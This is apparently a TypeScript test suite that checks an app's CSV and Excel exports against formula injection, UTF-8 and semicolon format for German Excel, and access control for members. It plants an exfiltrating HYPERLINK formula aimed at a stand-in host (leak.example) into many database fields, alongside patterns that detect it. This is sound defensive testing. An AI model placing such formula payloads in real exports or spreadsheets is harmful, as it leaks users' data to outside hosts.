import assert from 'node:assert/strict'
import { after, before, describe, test } from 'node:test'
import { strFromU8, unzipSync } from 'fflate'
import { sql } from 'kysely'
import { freshDemoDatabase, PASSWORDS } from '#test/support/demo-instance.ts'
import { findEveryPage, openTestApp, type TestApp } from '#test/support/every-page.ts'
import { linksIn } from '#test/support/forms.ts'
import { Browser, type BrowserResponse } from '#test/support/http-browser.ts'

const FORMULA = '=HYPERLINK("https://leak.example/?"&A1;"open")'
/** Texts of people, partners and guests that exports contain. */
const PLANTED: Record<string, readonly string[]> = {
  event: ['title', 'location'],
  event_type: ['title'],
  guest: ['display_name'],
  participation: ['placeholder_name'],
  participation_comment: ['text'],
  qualification: ['title', 'abbreviation'],
  qualification_category: ['title'],
  question: ['name', 'text'],
  resource: ['title'],
  shift: ['label'],
  user_group: ['name'],
  user_profile: ['display_name', 'emergency_name'],
  visitor: ['display_name'],
  working_hours: ['reason'],
}

/** Groups of digits with spaces are no formula. */
const PHONE = /^\+\d+(?: \d+)+$/

const isCsv = ({ headers }: BrowserResponse): boolean => String(headers['content-type']).startsWith('text/csv')
const isWorkbook = ({ headers }: BrowserResponse): boolean => String(headers['content-type']).includes('spreadsheetml')

/** RFC 4180. Unlike the reader of imports, it gives the cells as a spreadsheet program sees them. */
function cellsOf(text: string): string[][] {
  const body = text.replace(/^\ufeff/, '')
  const separator = /^[^"\r\n]*?([,;])/.exec(body)?.[1] ?? ','
  const cell = new RegExp(`("(?:[^"]|"")*"|[^${separator}\\r\\n]*)(${separator}|\\r\\n)`, 'y')
  const rows: string[][] = [[]]
  for (let found = cell.exec(body); found && cell.lastIndex <= body.length; found = cell.exec(body)) {
    const [, value = '', end] = found
    rows.at(-1)!.push(value.startsWith('"') ? value.slice(1, -1).replaceAll('""', '"') : value)
    if (end === '\r\n') rows.push([])
    if (cell.lastIndex === body.length) break
  }
  return rows.filter((row) => row.length)
}

describe('files for spreadsheet programs', () => {
  let testApp: TestApp
  let exports: string[]
  const enter = async (name: keyof typeof PASSWORDS): Promise<Browser> => {
    const browser = new Browser({ port: Number(new URL(testApp.origin).port) }, { host: new URL(testApp.origin).host })
    await browser.signIn(PASSWORDS[name], `${name}@demo.example`)
    return browser
  }
  before(async () => {
    testApp = await openTestApp(await freshDemoDatabase(), { isUnlimited: true })
    const places = await findEveryPage(testApp)
    const olga = await enter('olga')
    const found = new Set<string>()
    for (const place of places.filter((each) => !each.startsWith('/accounts/'))) {
      const page = await olga.get(place)
      if (isCsv(page) || isWorkbook(page)) found.add(place)
      for (const link of linksIn(page.body)) if (/\.(csv|xlsx)(\?|$)|format=(csv|xlsx)/.test(link)) found.add(link)
    }
    exports = [...found]
    for (const [table, columns] of Object.entries(PLANTED))
      for (const column of columns)
        await sql`update ${sql.table(table)} t set ${sql.ref(column)} = ${FORMULA}::text || n.n::text
          from (select ctid, row_number() over () n from ${sql.table(table)}) n
          where n.ctid = t.ctid and t.${sql.ref(column)} is not null`.execute(testApp.db.write)
  })
  after(() => testApp?.close())

  test('contain no cell that runs as a formula, and rows of one length', async () => {
    const olga = await enter('olga')
    const problems: string[] = []
    let marked = 0
    for (const place of exports) {
      const file = await olga.get(place)
      assert.equal(file.statusCode, 200, place)
      assert.match(String(file.headers['content-disposition']), /^attachment; filename="[^"]+"$/, place)
      assert.match(String(file.headers['cache-control']), /no-store/, place)
      if (isCsv(file)) {
        const rows = cellsOf(file.body)
        const cells = rows.flat()
        if (cells.some((text) => text.includes('leak.example'))) marked++
        for (const text of cells)
          if (/^[\s\u00a0]*[=+\-@\t\r]/.test(text) && !PHONE.test(text)) problems.push(`${place}: ${text}`)
        if (new Set(rows.map(({ length }) => length)).size > 1) problems.push(`${place} has rows of different lengths`)
      } else {
        const parts = Object.entries(unzipSync(file.bytes)).map(([name, bytes]) => [name, strFromU8(bytes)] as const)
        if (parts.some(([, text]) => text.includes('leak.example'))) marked++
        for (const [name, text] of parts) if (/<f[ >]|<hyperlink|externalLink/.test(text)) problems.push(`${place}: ${name}`)
      }
    }
    assert.deepEqual(problems, [])
    assert.ok(exports.some((place) => place.includes('xlsx')) && exports.length >= 7, exports.join('\n'))
    assert.ok(marked >= 6, `only ${marked} of ${exports.join(' ')} contain what was planted`)
  })

  test('are what a German Excel opens: with semicolons, and with a mark for UTF-8', async () => {
    await testApp.db.write
      .updateTable('user_profile')
      .set({ preferred_language: 'de' })
      .where('email', 'like', 'olga@%')
      .execute()
    const olga = await enter('olga')
    let files = 0
    for (const place of exports) {
      const file = await olga.get(place)
      if (!isCsv(file)) continue
      files++
      assert.match(file.body, /^\ufeff[^,\r]*;[^,\r]*\r\n/, place)
    }
    assert.ok(files >= 6, String(files))
  })

  test('of others are not given to a member, except the roster of an event that the member sees', async () => {
    await testApp.db.write.deleteFrom('totp_factor').execute()
    const ann = await enter('ann')
    const given: string[] = []
    for (const place of exports) {
      const file = await ann.get(place)
      const [path = ''] = place.split('?')
      if (file.statusCode !== 200) continue
      // A report is about what the reader plans.
      if (path.startsWith('/planning/reports/')) assert.doesNotMatch(file.body, /leak\.example/, place)
      else given.push(path.replace(/\d+/, '{id}'))
    }
    assert.deepEqual([...new Set(given)].sort(), ['/events/{id}/roster.csv', '/my-shifts/export/'])
  })
})
